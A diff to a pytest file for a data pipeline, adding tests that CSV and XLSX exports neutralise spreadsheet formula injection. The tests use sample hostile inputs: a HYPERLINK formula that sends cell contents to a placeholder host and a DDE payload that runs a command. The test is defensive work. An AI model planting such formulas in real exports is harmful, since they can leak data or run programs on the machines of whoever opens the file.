@@ -9,16 +9,21 @@ command (in a fresh process, with the environment a cron job has: `tests.test_op
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import html
 import shutil
 import subprocess
+import zipfile
 from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import duckdb
+import polars as pl
 import pytest
 
 from pipeline.core.settings import Settings
+from pipeline.export import csv_safe
 from pipeline.run import run
 from tests.conftest import (
     APPT_HEADER,
@@ -271,3 +276,72 @@ def test_item2_same_path_and_bytes_is_the_same_delivery_whatever_its_time(
         assert figures(s.warehouse) == before
     assert "nightly: 0 deliveries processed" in again.stderr
     assert rows(s.warehouse, "SELECT DISTINCT status FROM leveringen") == [{"status": "verwerkt"}]
+
+
+# ---------------------------------------------------------------------------------------------
+# Item 3: exports that cannot execute
+# ---------------------------------------------------------------------------------------------
+
+FORMULAS = ('=HYPERLINK("http://x"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
+
+
+def _quoted(value: str) -> str:
+    return '"' + value.replace('"', '""') + '"'
+
+
+def test_item3_delivered_text_is_written_as_text_never_as_a_formula(tmp_path: Path) -> None:
+    s = settings_for(tmp_path)
+    rare_below = 5
+    # Each queue name on as many calls as makes it published, not grouped as rare.
+    lines = [
+        call(f"f{n}-{i}", f"2020-03-16T09:{n:02d}:{i:02d}+01:00", wachtrij=_quoted(value))[:-1]
+        for n, value in enumerate(FORMULAS)
+        for i in range(rare_below)
+    ]
+    write(s.raw_dir / "telefonie/telefonie_20200317.csv", CALL_HEADER_NO_PII, lines)
+    done = cli("backfill", "--raw", s.raw_dir, "--warehouse", s.warehouse, PIPELINE_RARE_BELOW=str(rare_below))
+    assert done.returncode == 0, done.stderr
+    published = rows(s.warehouse, "SELECT DISTINCT wachtrij FROM telefoontjes_uitsplitsing ORDER BY ALL")
+    assert {r["wachtrij"] for r in published} == set(FORMULAS)
+
+    csv_dir, xlsx_dir = tmp_path / "csv", tmp_path / "xlsx"
+    for fmt, folder in (("csv", csv_dir), ("xlsx", xlsx_dir)):
+        exported = cli("export", "--warehouse", s.warehouse, "--format", fmt, "--out", folder)
+        assert exported.returncode == 0, exported.stderr
+
+    # csv: each text starts with the OWASP prefix; the numbers stay numbers.
+    with (csv_dir / "telefoontjes_uitsplitsing.csv").open(newline="", encoding="utf-8") as handle:
+        table = list(csv.DictReader(handle))
+    assert {r["wachtrij"] for r in table} == {"'" + value for value in FORMULAS}
+    assert all(r["aantal"].isdigit() for r in table)
+    # xlsx: no cell is a formula, and every text is there as a string.
+    with zipfile.ZipFile(next(xlsx_dir.iterdir())) as book:
+        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
+        strings = book.read("xl/sharedStrings.xml").decode()
+    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+    for value in FORMULAS:
+        assert html.escape(value, quote=False) in strings, value
+    assert not any("<hyperlink" in sheet for sheet in sheets)
+
+
+def test_item3_csv_prefix_rule_covers_tab_and_carriage_return_and_leaves_numbers() -> None:
+    frame = pl.DataFrame(
+        {
+            "tekst": [*FORMULAS, "\tx", "\rx", "Algemeen", "-5", "+31", "2,5", "a=b", None],
+            "getal": [-2, -1, 0, 1, 2, 3, 4, -5, 31, 2, 0, None],
+            "fractie": [-2.5] * 12,
+        }
+    )
+    safe = csv_safe(frame)
+    assert safe["tekst"].to_list() == [
+        *("'" + v for v in FORMULAS),
+        "'\tx",
+        "'\rx",
+        "Algemeen",
+        "-5",
+        "+31",
+        "2,5",
+        "a=b",
+        None,
+    ]
+    assert safe.drop("tekst").equals(frame.drop("tekst"))
